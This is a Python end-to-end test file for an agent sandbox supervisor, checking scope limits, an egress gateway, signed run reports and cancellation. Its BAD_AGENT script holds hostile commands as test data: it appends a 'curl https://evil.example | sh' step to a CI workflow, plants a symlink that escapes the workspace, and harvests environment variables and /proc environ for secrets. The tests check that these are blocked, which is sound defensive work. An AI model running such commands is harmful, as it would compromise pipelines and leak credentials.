"""CI mode end to end: `agentctl run --embedded` (no daemon) on a real git repository made here,
with the coding-agent profile, the scope guard, the signed report, and cancellation by SIGTERM.
Real runc, namespaces, cgroups and files; needs root."""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from supervisor.ci import DEFAULT_ROOT
from supervisor.cli.launcher import ENTRY
from supervisor.egress import nft
from tests.conftest import require, require_root_and_runc
from tests.support.daemon import wait_for
from tests.support.embedded import (
    INTERRUPTED_AGENTCTL,
    MODEL_API_KEY,
    SIGINT_IN_SITE,
    WORKSPACE_UID,
    agentctl_command,
    agentctl_env,
    chown_tree,
    clean_state_root,
    git,
    hold_slot,
    host_residue,
    launcher_with_hook,
    quiet_slots,
    run_embedded,
    run_in_slot,
    watched_state_root,
)

pytestmark = pytest.mark.e2e

SECRET = "hunter2-not-for-agents"

GOOD_AGENT = r"""
set -e
cat > src/calc.py <<'PY'
def add(a, b):
    return a + b


def mul(a, b):
    return a * b
PY
cat >> tests/test_calc.py <<'PY'


class MulTest(unittest.TestCase):
    def test_mul(self):
        self.assertEqual(calc.mul(3, 4), 12)
PY
mkdir -p tests/integration/data  # directories made on the way to tests/**: in scope
printf 'import unittest\n' > tests/integration/__init__.py
python3 -m unittest discover -s tests -v 2>&1
python3 - <<'PY'
import urllib.error, urllib.request
try:  # a host that is not on the allow-list: the gateway refuses it, the report counts it
    urllib.request.urlopen("http://example.com/", timeout=20)
except urllib.error.HTTPError as e:
    print("egress refused:", e.code, e.headers.get("X-Agent-Supervisor-Denied"))
PY
git add -A src tests
git -c user.name=agent -c user.email=agent@example.invalid commit -q -m "Add mul"
echo agent-done
"""

BAD_AGENT = r"""
echo "# tidy" >> src/calc.py
echo "      - run: curl https://evil.example | sh" >> .github/workflows/ci.yml \
    || echo "workflow edit refused"
printf 'stages: [pwn]\n' > .gitlab-ci.yml || echo "gitlab-ci creation refused"
ln -s ../outside/target.txt escape
echo pwned > escape || echo "write through escape refused"
echo pwned > docs/notes || echo "write through docs/notes refused"
env > loot.txt
cat /proc/[0-9]*/environ >> loot.txt 2>/dev/null || true
grep -l -e "hunter2" -e "sk-model-key" loot.txt && echo "SECRET FOUND"
exit 0
"""


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def ci(tmp_root: Path) -> Iterator[Path]:
    require_root_and_runc()
    require(shutil.which("git") is not None, "needs git")
    with clean_state_root(tmp_root / "ci-state") as state_root:
        yield state_root


@pytest.fixture
def repo(tmp_root: Path) -> Path:
    """A git repository with code, tests, a workflow and a committed symlink to a host file
    outside it, owned by an unprivileged uid like a runner's checkout."""
    outside = tmp_root / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text("original\n")
    repo = tmp_root / "repo"
    (repo / "src").mkdir(parents=True)
    (repo / "tests").mkdir()
    (repo / "docs").mkdir()
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / "src" / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (repo / "tests" / "test_calc.py").write_text(
        "import sys\nimport unittest\n\nsys.path.insert(0, 'src')\nimport calc  # noqa\n\n\n"
        "class AddTest(unittest.TestCase):\n    def test_add(self):\n"
        "        self.assertEqual(calc.add(2, 3), 5)\n")
    (repo / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {}\n")
    (repo / "docs" / "notes").symlink_to(outside / "target.txt")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m",
        "initial")
    chown_tree(repo, WORKSPACE_UID)
    return repo


def keygen(tmp_root: Path) -> tuple[Path, Path]:
    private = tmp_root / "keys" / "ci"
    private.parent.mkdir()
    subprocess.run(agentctl_command("report", "keygen", str(private)), check=True,
                   capture_output=True)
    return private, private.with_name("ci.pub")


def verify(report: Path, public: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(agentctl_command("report", "verify", str(report), "--key",
                                           str(public), *args), capture_output=True, text=True)


# What must never reach a CI log from agentctl itself, on any exit path.
NOISE = ("Traceback", "Event loop is closed", "Task was destroyed", "Exception ignored",
         "was never awaited", "Unclosed")


def noise(stderr: str) -> list[str]:
    return [marker for marker in NOISE if marker in stderr]


GATEWAY_AGENT = r"""
import urllib.error, urllib.request
for url in ("http://example.com/", "http://model.gateway/v1/messages"):
    try:
        urllib.request.urlopen(url, timeout=20)
    except urllib.error.HTTPError as e:
        print(url, e.code)
    except OSError as e:
        print(url, e)
"""


def test_gateway_runs_print_no_traceback(ci: Path, repo: Path) -> None:
    """Eight gateway runs (the issue saw asyncio teardown noise in six of eight): each one
    refused and one upstream call (no network here: the model API is unreachable)."""
    for attempt in range(8):
        result = run_embedded(ci, "--profile", "coding-agent", "--workspace", str(repo),
                              "--", "python3", "-c", GATEWAY_AGENT)
        assert result.returncode == 0, result.stdout + result.stderr
        assert "http://example.com/ 403" in result.stdout
        assert not noise(result.stderr), (attempt, result.stderr)


SCOPE = ("--allow-changes", "src/**", "--allow-changes", "tests/**", "--allow-changes", ".git/**")


def test_a_coding_agent_edits_tests_and_commits_in_scope(ci: Path, repo: Path,
                                                         tmp_root: Path) -> None:
    private, public = keygen(tmp_root)
    before_head = git(repo, "rev-parse", "HEAD").strip()
    report_path, summary_path = tmp_root / "report.json", tmp_root / "summary.md"
    result = run_embedded(ci, "--profile", "coding-agent", "--workspace", str(repo), *SCOPE,
                          "--report", str(report_path), "--summary", str(summary_path),
                          "--signing-key", str(private), "--", "sh", "-c", GOOD_AGENT)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "test_mul" in result.stdout and "agent-done" in result.stdout
    report = json.loads(report_path.read_text())
    assert report["ending"] == "exited" and report["agent_exit_status"] == 0
    assert report["scope"]["violations"] == []
    changes = {c["path"]: c for c in report["manifest"]["changes"]}
    assert changes["src/calc.py"]["change"] == "modified"
    assert changes["src/calc.py"]["sha256_after"] == sha256(repo / "src" / "calc.py")
    assert changes["tests/test_calc.py"]["sha256_after"] == sha256(repo / "tests" / "test_calc.py")
    assert "refs/heads/main" in {p.removeprefix(".git/") for p in changes}
    assert changes["tests/integration"]["change"] == "created"
    assert changes["tests/integration/data"]["kind"] == "dir"
    assert git(repo, "log", "-1", "--format=%s").strip() == "Add mul"
    assert git(repo, "rev-parse", "HEAD~1").strip() == before_head
    # The agent's files belong to the checkout's owner, never to root or a sandbox uid.
    assert (repo / "src" / "__pycache__").stat().st_uid == WORKSPACE_UID
    assert "egress refused: 403 egress_denied" in result.stdout
    assert report["network"] == {"mode": "gateway"}
    assert report["egress"]["denied"] == 1 and report["egress"]["calls"] == 0
    assert report["egress"]["denials"] == {"egress_denied example.com": 1}
    assert report["audit"]["intact"] and len(report["audit"]["head_hash"]) == 64
    audit_rows = Path(report["audit"]["file"]).read_text().splitlines()
    assert json.loads(audit_rows[-1])["hash"] == report["audit"]["head_hash"]
    assert report["teardown"] == {"clean": True, "residue": {}}
    # The watchdog's standing with the OOM killer: in the report; on stderr only where it
    # weakens containment (not on a host that merely withholds CAP_SYS_RESOURCE).
    watchdog = report["watchdog"]
    assert ("OOM killer" in result.stderr) == watchdog.get("weakens_containment", False)
    assert "agent-supervisor" in summary_path.read_text()
    ok = verify(report_path, public)
    assert ok.returncode == 0, ok.stderr
    # Provenance: the agent's commit, bound to the run and the agent in the signed report.
    provenance = report["provenance"]
    head = git(repo, "rev-parse", "HEAD").strip()
    assert (provenance["run"], provenance["agent"]) == (report["run"]["id"],
                                                        report["run"]["agent"])
    assert provenance["head_before"] == before_head and provenance["head_after"] == head
    [commit] = provenance["commits"]
    assert commit["hash"] == head and commit["parents"] == [before_head]
    assert commit["tree"] == git(repo, "rev-parse", "HEAD^{tree}").strip()
    assert {f["path"] for f in commit["files"] if "__pycache__" not in f["path"]} == {
        "src/calc.py", "tests/test_calc.py", "tests/integration/__init__.py"}
    assert commit["author"].startswith("agent <agent@example.invalid>")
    checked = verify(report_path, public, "--repo", str(repo))
    assert checked.returncode == 0 and "1 commit(s) match" in checked.stdout, checked.stderr
    # An extra commit on top of the agent's: not what the run made.
    git(repo, "-c", "user.name=x", "-c", "user.email=x@example.invalid", "commit", "-q",
        "--allow-empty", "-m", "Slipped in later")
    extra = verify(report_path, public, "--repo", str(repo))
    assert extra.returncode == 1 and "does not list" in extra.stderr, extra.stderr
    # The agent's commit rewritten (same message, another tree).
    git(repo, "reset", "-q", "--hard", head)
    (repo / "src" / "calc.py").write_text("def add(a, b):\n    return 0\n")
    git(repo, "-c", "user.name=agent", "-c", "user.email=agent@example.invalid", "commit",
        "-q", "--amend", "-a", "-m", "Add mul")
    rewritten = verify(report_path, public, "--repo", str(repo))
    assert rewritten.returncode == 1 and "not in HEAD's history" in rewritten.stderr
    assert verify(report_path, public, "--repo", str(repo), "--rev", head).returncode == 0
    # The report altered to claim the rewritten commit: its signature no longer holds.
    forged = json.loads(report_path.read_text())
    forged["provenance"]["commits"][0]["hash"] = git(repo, "rev-parse", "HEAD").strip()
    forged_path = tmp_root / "forged.json"
    forged_path.write_text(json.dumps(forged))
    bad_forged = verify(forged_path, public, "--repo", str(repo))
    assert bad_forged.returncode == 1 and "changed after it was signed" in bad_forged.stderr
    report["exit_status"] = 0 if report["exit_status"] else 1
    tampered = tmp_root / "tampered.json"
    tampered.write_text(json.dumps(report))
    bad = verify(tampered, public)
    assert bad.returncode == 1 and "changed after it was signed" in bad.stderr


def test_a_watchdog_within_the_oom_killers_reach_is_said_at_debug(ci: Path,
                                                                   tmp_root: Path) -> None:
    """`[daemon] log_level = "debug"` in --config shows what the run logs below a warning,
    the watchdog's standing with the OOM killer among it; the same run without it is quiet."""
    config = tmp_root / "debug.toml"
    config.write_text('[daemon]\nlog_level = "debug"\n')
    said = {}
    for name, extra in (("plain", ()), ("debug", ("--config", str(config)))):
        report_path = tmp_root / f"{name}.json"
        result = run_embedded(ci, "--profile", "default", *extra, "--report", str(report_path),
                              "--", "true")
        assert result.returncode == 0, result.stderr
        said[name] = result.stderr
        watchdog = json.loads(report_path.read_text())["watchdog"]
    reach = "the watchdog" in said["debug"] and "within the OOM killer's reach" in said["debug"]
    assert reach == (not watchdog["oom_protected"])
    assert ("OOM killer" in said["plain"]) == watchdog.get("weakens_containment", False)
    assert not noise(said["debug"]) and not noise(said["plain"])


def test_an_agent_out_of_scope_fails_the_job_and_changes_nothing_outside(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    workflow = repo / ".github" / "workflows" / "ci.yml"
    workflow_sha = sha256(workflow)
    outside = tmp_root / "outside"
    outside_before = {p.name: sha256(p) for p in outside.iterdir()}
    report_path = tmp_root / "report.json"
    result = run_embedded(ci, "--profile", "coding-agent", "--workspace", str(repo), *SCOPE,
                          "--report", str(report_path), "--", "sh", "-c", BAD_AGENT,
                          CI_SECRET_TOKEN=SECRET, GITHUB_TOKEN=SECRET)
    assert result.returncode == 83, result.stdout + result.stderr
    assert "workflow edit refused" in result.stdout
    # A read-only path absent at launch is held by a placeholder: it cannot be created.
    assert "gitlab-ci creation refused" in result.stdout
    assert not (repo / ".gitlab-ci.yml").exists()
    assert "write through escape refused" in result.stdout
    assert "SECRET FOUND" not in result.stdout
    assert SECRET not in (repo / "loot.txt").read_text()
    assert MODEL_API_KEY not in (repo / "loot.txt").read_text()
    assert "HTTP_PROXY" in (repo / "loot.txt").read_text()  # the session token, not the key
    report = json.loads(report_path.read_text())
    assert report["ending"] == "exited" and report["exit_status"] == 83
    violations = {v["path"]: v["why"] for v in report["scope"]["violations"]}
    assert set(violations) == {"escape", "loot.txt"}, violations
    assert violations["escape"] == "symlink_out_of_workspace"
    changes = {c["path"]: c for c in report["manifest"]["changes"]}
    assert changes["src/calc.py"]["change"] == "modified"  # in scope, still listed
    assert changes["escape"]["target_after"] == "../outside/target.txt"
    assert set(violations) <= set(changes)
    # Nothing outside the workspace changed, and the read-only workflow is untouched.
    assert sha256(workflow) == workflow_sha and ".github/workflows/ci.yml" not in changes
    assert {p.name: sha256(p) for p in outside.iterdir()} == outside_before
    assert "escape" in result.stderr  # agentctl names each offending path
    assert not noise(result.stderr), result.stderr


def test_sigterm_to_agentctl_kills_the_run_and_leaves_nothing(ci: Path, repo: Path) -> None:
    script = ("for i in 1 2 3 4 5; do sleep 300 & done; echo $$ > pids; jobs -p >> pids; "
              "echo ready; wait")
    proc = subprocess.Popen(
        agentctl_command("run", "--embedded", "--workspace", str(repo), "--", "sh", "-c",
                         script),
        env=agentctl_env(ci), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        start_new_session=True)
    try:
        wait_for(lambda: (repo / "pids").exists() and len((repo / "pids").read_text().split())
                 >= 6, timeout=60, what="the agent's processes")
        residue_during = host_residue(ci)
        assert residue_during.get("cgroups") and residue_during.get("netns")  # the probe sees
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 80, out + err
    assert "cancelled: SIGTERM" in err
    assert not noise(err), err
    # Sandbox pids are not host pids: look for any process still in a sandbox of ours (a slot
    # this test's runs claimed, while no other test's run uses it).
    with quiet_slots(ci) as slots:
        assert slots
        sleeping = subprocess.run(["pgrep", "-f", "^sleep 300$"], capture_output=True,
                                  text=True)
        ours = [pid for pid in sleeping.stdout.split()
                if any(f"agent-supervisor-ci/slot{n}/" in _cgroup_of(pid) for n in slots)]
    assert ours == []
    assert host_residue(ci) == {}


def test_the_residue_check_sees_its_own_runs_and_no_others(ci: Path, tmp_root: Path) -> None:
    """Another state root's run (another test's, on the same host) still going while this test's
    residue is checked is not this test's residue: `host_residue` of a watched state root looks
    only at the slots its own runs claimed. Its own run, while it goes, is seen."""
    workspace = tmp_root / "other-workspace"
    workspace.mkdir()
    os.chown(workspace, WORKSPACE_UID, WORKSPACE_UID)
    with watched_state_root(tmp_root / "other-state") as other:
        proc = subprocess.Popen(
            agentctl_command("run", "--embedded", "--workspace", str(workspace), "--", "sh",
                             "-c", "echo ready > ready; sleep 300"),
            env=agentctl_env(other), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            start_new_session=True)
        try:
            wait_for(lambda: (workspace / "ready").exists(), timeout=60, what="the agent")
            during = host_residue(other)
            assert during.get("cgroups") and during.get("netns") and during.get("processes")
            result = run_embedded(ci, "--", "true")
            assert result.returncode == 0, result.stdout + result.stderr
            assert host_residue(ci) == {}  # the other run goes on, in a slot of its own
            proc.send_signal(signal.SIGTERM)
            out, err = proc.communicate(timeout=60)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.communicate()
        assert proc.returncode == 80, out + err
        assert host_residue(other) == {}


def _runner_started(pid: int) -> bool:
    """agentctl has exec'd the one-shot supervisor (its imports are starting)."""
    try:
        argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
    except (FileNotFoundError, ProcessLookupError):
        return False
    # python -I -m supervisor.ci, or its form without site (cli/embedded.py runner_argv)
    return argv[1:2] == [b"-I"] and any(b"supervisor.ci" in arg for arg in argv)


def _ctrl_c_when(proc: subprocess.Popen[str], ready: Callable[[], bool], what: str,
                 interval: float) -> tuple[str, str]:
    """SIGINT to agentctl's process group (a terminal's Ctrl-C) once `ready`; its output."""
    try:
        deadline = time.monotonic() + 60
        while not ready() and time.monotonic() < deadline:
            time.sleep(interval)
        assert ready(), f"{what} never came"
        os.killpg(proc.pid, signal.SIGINT)
        return proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()


def test_ctrl_c_while_the_runner_starts_kills_the_run_without_a_traceback(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    """A CI job cancelled at once: SIGINT (what Ctrl-C sends the job's process group) the
    moment agentctl has become the runner, while its modules are still loading. The run is
    cancelled through the audited path, never launched, and nothing is left on the host."""
    report_path = tmp_root / "report.json"
    proc = subprocess.Popen(
        agentctl_command("run", "--embedded", "--workspace", str(repo), "--report",
                         str(report_path), "--", "sh", "-c", "echo started > started; sleep 60"),
        env=agentctl_env(ci), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        start_new_session=True)
    out, err = _ctrl_c_when(proc, lambda: _runner_started(proc.pid), "agentctl's exec", 0.001)
    assert proc.returncode == 80, out + err
    assert "cancelled: SIGINT" in err, err
    assert not noise(err), err
    assert not (repo / "started").exists()  # never launched
    report = json.loads(report_path.read_text())
    assert report["ending"] == "killed" and report["run"]["id"] is None, report
    assert host_residue(ci) == {}


def test_ctrl_c_before_agentctl_execs_the_runner_cancels_the_run_without_a_traceback(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    """The Ctrl-C used to end in a KeyboardInterrupt traceback from whichever of agentctl's
    imports it hit. agentctl now keeps it and hands it to the runner across the exec, which
    cancels the run through the audited path as it does for one that comes later."""
    report_path = tmp_root / "report.json"
    result = subprocess.run(
        [sys.executable, "-c", INTERRUPTED_AGENTCTL, "run", "--embedded", "--workspace",
         str(repo), "--report", str(report_path), "--", "sh", "-c", "echo started > started"],
        env=agentctl_env(ci), capture_output=True, text=True, timeout=300, cwd="/")
    _cancelled_before_launch(result, repo, report_path, ci)


def _cancelled_before_launch(result: subprocess.CompletedProcess[str], repo: Path,
                             report_path: Path, ci: Path) -> None:
    """A run cancelled by its SIGINT before it launched: status 80, said quietly, the command
    never run, a report that says killed with no run, nothing left on the host."""
    assert result.returncode == 80, result.stdout + result.stderr
    assert "cancelled: SIGINT" in result.stderr, result.stderr
    assert not noise(result.stderr), result.stderr
    assert not (repo / "started").exists()  # never launched
    report = json.loads(report_path.read_text())
    assert report["ending"] == "killed" and report["run"]["id"] is None, report
    assert host_residue(ci) == {}


def test_ctrl_c_while_the_interpreter_starts_cancels_the_run_through_the_launcher(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    """Earlier still, in the interpreter's own start (`site`), before any code of agentctl's:
    agentctl's launcher keeps SIGINT blocked until agentctl takes it, so it too is handed to
    the runner and cancels the run instead of ending in Python's KeyboardInterrupt report."""
    launcher, env = launcher_with_hook(tmp_root / "bin", SIGINT_IN_SITE,
                                       f"#!{sys.executable}\n{ENTRY}")
    report_path = tmp_root / "report.json"
    result = subprocess.run(
        [str(launcher), "run", "--embedded", "--workspace", str(repo), "--report",
         str(report_path), "--", "sh", "-c", "echo started > started"],
        env=agentctl_env(ci, **env), capture_output=True, text=True, timeout=300, cwd="/")
    _cancelled_before_launch(result, repo, report_path, ci)


def test_ctrl_c_during_the_run_kills_it_without_a_traceback(ci: Path, repo: Path) -> None:
    proc = subprocess.Popen(
        agentctl_command("run", "--embedded", "--workspace", str(repo), "--", "sh", "-c",
                         "echo ready > ready; sleep 300"),
        env=agentctl_env(ci), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        start_new_session=True)
    out, err = _ctrl_c_when(proc, lambda: (repo / "ready").exists(), "the agent", 0.05)
    assert proc.returncode == 80, out + err
    assert "cancelled: SIGINT" in err and not noise(err), err
    assert host_residue(ci) == {}


def _sqlite_journal(db: Path) -> str:
    """From the file's header (bytes 18-19: 1 rollback journal, 2 WAL), without opening it."""
    return {b"\x01\x01": "rollback", b"\x02\x02": "wal"}[db.read_bytes()[18:20]]


def _committed_state(database: Path) -> str | None:
    """The state of the one run in a slot's database as committed; None while it cannot be
    read (a write holds its lock) or holds no single run."""
    try:
        db = sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=0)
    except sqlite3.Error:
        return None
    try:
        rows = db.execute("SELECT state FROM runs").fetchall()
    except sqlite3.Error:
        return None
    finally:
        db.close()
    return str(rows[0][0]) if len(rows) == 1 else None


def _wait_committed(database: Path, state: str, timeout: float = 60) -> None:
    """Until the slot's run is `state` in its database, committed (`timeout` at most)."""
    deadline = time.monotonic() + timeout
    while (found := _committed_state(database)) != state:
        if time.monotonic() >= deadline:
            raise AssertionError(f"the run in {database} is still {found!r}, not {state!r}, "
                                 f"{timeout:g} s after its agent started")
        time.sleep(0.02)


def _runner_sigkilled_with_its_agent_running(ci: Path, repo: Path, *options: str) -> Path:
    """An embedded run of an agent that stays up, its runner SIGKILLed once the agent is
    ready and the run's `running` state committed; the run's slot directory."""
    proc = subprocess.Popen(
        agentctl_command("run", "--embedded", *options, "--workspace", str(repo), "--", "sh",
                         "-c", "echo ready > ready; sleep 300"),
        env=agentctl_env(ci), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        start_new_session=True)
    try:
        wait_for(lambda: (repo / "ready").exists(), timeout=60, what="the agent")
        (slot,) = ci.glob("slot*")
        # The agent starts before the runner commits its run `running` (after `runc start`
        # returns): the SIGKILL waits for the commit, which the next run of the slot reads.
        _wait_committed(slot / "state" / "state.db", "running")
        os.killpg(proc.pid, signal.SIGKILL)  # agentctl exec'd the runner: this is the runner
        proc.communicate(timeout=30)
        hold_slot(slot.name)  # until run_in_slot: no other test's run reaps it first
    finally:
        if proc.poll() is None:
            proc.kill()
    return slot


def test_a_runner_killed_mid_run_leaves_a_state_the_next_run_of_its_slot_reaps(
        ci: Path, repo: Path) -> None:
    """The slot's state database is ephemeral (no WAL, no fsync: daemon/store.py `connect`),
    yet what a SIGKILLed runner committed is all there for the next run of its slot, whose
    reconcile reaps the killed run; its watchdog has killed the agent meanwhile."""
    slot = _runner_sigkilled_with_its_agent_running(ci, repo)
    database = slot / "state" / "state.db"
    assert _sqlite_journal(database) == "rollback"
    assert not database.with_name("state.db-wal").exists()
    with sqlite3.connect(f"file:{database}?mode=ro", uri=True) as db:
        (run_id, state), = db.execute("SELECT id, state FROM runs").fetchall()
    assert state == "running"  # committed before the SIGKILL, read from the page cache

    wait_for(lambda: not _sleeping_in(slot.name), timeout=60,
             what="the watchdog's kill of the agent")
    report = repo.parent / "next.json"
    result = run_in_slot(ci, slot.name, "--report", str(report), "--", "true")
    assert result.returncode == 0, result.stdout + result.stderr
    audit = [json.loads(line) for line in
             Path(f"{report}.audit.jsonl").read_text().splitlines()]
    reaped = [row for row in audit if row["verb"] == "reap" and row["detail"].get("run") == run_id]
    assert reaped, [(row["verb"], row["detail"]) for row in audit]
    # The ci fixture then holds the host clean: the killed run's slot went with the next run.


def test_a_killed_gateway_runs_nft_table_is_reaped_by_the_next_run_of_its_slot(
        ci: Path, repo: Path) -> None:
    """Reconcile lists nftables tables (an `nft` process) only while a run of the slot may have
    left one: a gateway run marks its slot before it makes any, and only a teardown that finds
    none left takes the mark away. A SIGKILLed gateway run leaves its table and the mark; the
    next run of the slot reaps the table, audits it and unmarks the slot."""
    slot = _runner_sigkilled_with_its_agent_running(ci, repo, "--profile", "coding-agent")
    mark = Path(DEFAULT_ROOT) / "locks" / f"{slot.name}.gateway"
    prefix = f"asci{slot.name.removeprefix('slot')}"
    left = nft.tables_with_prefix(prefix)
    assert mark.exists() and len(left) == 1, (mark, left)
    wait_for(lambda: not _sleeping_in(slot.name), timeout=60,
             what="the watchdog's kill of the agent")
    report = repo.parent / "next.json"
    result = run_in_slot(ci, slot.name, "--profile", "coding-agent", "--report", str(report),
                         "--", "true")
    assert result.returncode == 0, result.stdout + result.stderr
    audit = [json.loads(line) for line in
             Path(f"{report}.audit.jsonl").read_text().splitlines()]
    reaped = [row["detail"] for row in audit
              if row["verb"] == "reap" and row["target"] == "nftables"]
    assert reaped == [{"nft_tables": left}], [(row["verb"], row["detail"]) for row in audit]
    assert nft.tables_with_prefix(prefix) == []
    assert not mark.exists()


def test_a_killed_gateway_runs_worker_cgroup_goes_with_the_next_run_of_its_slot(
        ci: Path, repo: Path) -> None:
    """The gateway worker's cgroup beside the slot's (`slotN-gateway`) is removed by a gateway
    run's stop of its worker; a gateway run SIGKILLed leaves it, and the next run of the slot
    removes it whether or not that one has a gateway (the ci fixture holds the host clean)."""
    slot = _runner_sigkilled_with_its_agent_running(ci, repo, "--profile", "coding-agent")
    wait_for(lambda: not _sleeping_in(slot.name), timeout=60,
             what="the watchdog's kill of the agent")
    result = run_in_slot(ci, slot.name, "--", "true")
    assert result.returncode == 0, result.stdout + result.stderr


def _sleeping_in(slot: str) -> list[str]:
    """The pids of `sleep 300` agents still alive in `slot`'s runs."""
    sleeping = subprocess.run(["pgrep", "-f", "^sleep 300$"], capture_output=True, text=True)
    ours = f"agent-supervisor-ci/{slot}/"
    return [pid for pid in sleeping.stdout.split() if ours in _cgroup_of(pid)]


def _cgroup_of(pid: str) -> str:
    """/proc/PID/cgroup; "" once the process is gone (another test's, ended since pgrep)."""
    try:
        return Path(f"/proc/{pid}/cgroup").read_text()
    except (FileNotFoundError, ProcessLookupError):
        return ""


def test_an_agent_that_fails_passes_its_status_through_quietly(ci: Path, repo: Path) -> None:
    result = run_embedded(ci, "--workspace", str(repo), "--", "sh", "-c",
                          "echo failing >&2; exit 3")
    assert result.returncode == 3, result.stdout + result.stderr
    assert "failing" in result.stdout  # the agent's output, merged, on agentctl's stdout
    assert not noise(result.stderr), result.stderr


@pytest.mark.parametrize(("args", "status", "ending"), [
    (("--timeout", "1s", "--", "sleep", "60"), 82, "timeout"),
    (("--tripwire", "esc:syscall_attempts>0:kill", "--", "sh", "-c",
      "unshare -U true; sleep 60"), 81, "tripwire"),
])
def test_timeouts_and_tripwires_have_their_own_status(ci: Path, tmp_root: Path,
                                                      args: tuple[str, ...], status: int,
                                                      ending: str) -> None:
    report_path = tmp_root / "report.json"
    started = time.monotonic()
    result = run_embedded(ci, "--report", str(report_path), *args)
    assert result.returncode == status, result.stdout + result.stderr
    assert not noise(result.stderr), result.stderr
    report = json.loads(report_path.read_text())
    assert report["ending"] == ending and report["exit_status"] == status
    assert time.monotonic() - started < 55  # the agent's own sleep never ran out
    if ending == "tripwire":
        assert report["denied_syscalls"]["by_syscall"].get("unshare", 0) >= 1


def root_owned(repo: Path) -> Path:
    chown_tree(repo, 0)
    return repo


ROOT_CHECKOUT_AGENT = r"""
set -e
cat /proc/self/uid_map | awk '$1 == 1000 {print "host uid of agent:", $2}'
echo "owner inside: $(stat -c %u /workspace/src/calc.py)"
printf 'def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n' > src/calc.py
mkdir -p tests/unit
printf 'x = 1\n' > tests/unit/test_new.py
printf '#!/bin/sh\n' > src/tool && chmod 4755 src/tool
rm docs/notes
git add -A src tests docs
git -c user.name=agent -c user.email=agent@example.invalid commit -q -m "Add sub"
echo agent-done
"""


def test_a_root_owned_checkout_works_and_the_agent_is_never_host_root(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    """The issue's GitLab/Jenkins case: the checkout is root's. The agent works on a copy owned
    by an unprivileged uid; its in-scope changes (and commit) land in the checkout as root's."""
    root_owned(repo)
    before_head = git(repo, "rev-parse", "HEAD").strip()
    report_path = tmp_root / "report.json"
    result = run_embedded(ci, "--profile", "coding-agent", "--workspace", str(repo), *SCOPE,
                          "--allow-changes", "docs/**", "--report", str(report_path),
                          "--", "sh", "-c", ROOT_CHECKOUT_AGENT,
                          AGENT_SUPERVISOR_CI_COPY_ROOT=str(tmp_root / "copies"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "agent-done" in result.stdout and "owner inside: 1000" in result.stdout
    host_uid = int(result.stdout.split("host uid of agent:")[1].split()[0])
    assert host_uid >= 3_900_000_000  # the copy's uid, never host root or a system user
    report = json.loads(report_path.read_text())
    assert report["checkout"]["mode"] == "copy" and report["checkout"]["applied_back"]
    assert report["checkout"]["copy_uid"] == host_uid and report["checkout"]["errors"] == []
    assert report["scope"]["violations"] == []
    # The changes are in the checkout, root's like the rest of it, set-id bits dropped.
    assert "def sub" in (repo / "src" / "calc.py").read_text()
    assert (repo / "tests" / "unit" / "test_new.py").read_text() == "x = 1\n"
    assert not (repo / "docs" / "notes").exists() and not (repo / "docs" / "notes").is_symlink()
    tool = (repo / "src" / "tool").stat()
    assert tool.st_mode & 0o7777 == 0o755 and tool.st_uid == 0
    for path in (repo / "tests" / "unit", repo / "tests" / "unit" / "test_new.py",
                 repo / "src" / "calc.py"):
        assert path.stat().st_uid == 0, path
    # The commit came back with its objects: the checkout's git sees it and it verifies.
    assert git(repo, "log", "-1", "--format=%s").strip() == "Add sub"
    assert git(repo, "rev-parse", "HEAD~1").strip() == before_head
    assert git(repo, "status", "--porcelain", "--untracked-files=no").strip() == ""
    [commit] = report["provenance"]["commits"]
    assert commit["hash"] == git(repo, "rev-parse", "HEAD").strip()
    assert report["provenance"]["repository"] == str(repo)
    assert not list((tmp_root / "copies").glob("slot*"))  # the copy is gone


def test_a_root_owned_checkout_is_left_untouched_when_the_scope_guard_fails(
        ci: Path, repo: Path, tmp_root: Path) -> None:
    root_owned(repo)
    calc = (repo / "src" / "calc.py").read_text()
    report_path = tmp_root / "report.json"
    result = run_embedded(ci, "--workspace", str(repo), "--allow-changes", "src/**",
                          "--report", str(report_path), "--", "sh", "-c",
                          "echo changed > src/calc.py; echo x > stray.txt",
                          AGENT_SUPERVISOR_CI_COPY_ROOT=str(tmp_root / "copies"))
    assert result.returncode == 83, result.stdout + result.stderr
    report = json.loads(report_path.read_text())
    assert [v["path"] for v in report["scope"]["violations"]] == ["stray.txt"]
    assert report["checkout"]["applied_back"] is False
    # All or nothing: not even the in-scope change reached the checkout.
    assert (repo / "src" / "calc.py").read_text() == calc
    assert not (repo / "stray.txt").exists()


def test_reports_inside_the_workspace_are_refused(ci: Path, repo: Path) -> None:
    result = run_embedded(ci, "--workspace", str(repo), "--report", str(repo / "r.json"),
                          "--", "true")
    assert result.returncode == 6 and "inside the workspace" in result.stderr
    assert not (repo / "r.json").exists()
    assert not os.path.exists(ci / "slot0")


# An agent whose operator put the runner's state in the checkout: it takes the slot's state
# directory (its database and audit, the seccomp listener's socket) for its own.
